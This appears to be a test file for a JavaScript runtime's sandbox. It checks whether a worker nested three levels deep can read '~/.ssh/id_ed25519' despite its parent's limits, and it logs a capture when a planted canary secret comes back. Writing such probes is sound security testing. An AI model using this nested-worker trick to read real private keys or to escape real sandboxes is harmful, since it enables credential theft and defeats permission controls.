//= wants: rights and time for a worker's worker's worker that its parent has no word in
//= limit: 2
const nested = (depth: number): string =>
  depth === 0
    ? `try { postMessage(Deno.readTextFileSync("@home@/.ssh/id_ed25519")); } catch (e) { postMessage(String(e)); }`
    : `const w = new Worker("data:text/javascript," + encodeURIComponent(${JSON.stringify(nested(depth - 1))}), { type: "module" }); w.onmessage = (e) => postMessage(e.data); w.onerror = (e) => { e.preventDefault(); postMessage("no"); };`;
const worker = new Worker("data:text/javascript," + encodeURIComponent(nested(3)), { type: "module" });
worker.onmessage = (event) => {
  if (event.data.startsWith("coral-secret")) console.log("CAPTURED", event.data);
  Deno.exit(0);
};
